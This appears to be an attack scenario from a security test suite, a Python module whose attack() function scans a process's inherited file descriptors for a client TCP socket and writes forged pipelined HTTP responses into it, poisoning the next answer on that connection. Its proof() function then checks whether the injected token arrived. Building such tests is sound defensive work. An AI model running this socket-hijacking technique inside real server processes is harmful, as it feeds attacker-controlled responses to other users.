"""Answer, on a connection that stays open, what somebody asks next."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene


def attack(given: Given) -> object:
    import os
    import socket

    word = given.token.encode()
    both = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nfirst"
    both += b"HTTP/1.1 200 OK\r\nContent-Length: 16\r\n\r\n" + word
    for number in range(3, 64):
        try:
            connection = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        try:
            if connection.family == socket.AF_INET:
                connection.getpeername()
                connection.sendall(both)
                return f"written at descriptor {number}"
        except OSError:
            continue
        finally:
            connection.close()
    raise PermissionError("none of its descriptors is a client's connection")


def proof(scene: Scene) -> str | None:
    _, second = scene.on_one_connection("next_answer")
    if second.raw.startswith(b"HTTP/1.1 200") and scene.token.encode() in second.body[:16]:
        return "who asked for the neighbour on the same connection got the attacker's answer"
    return None
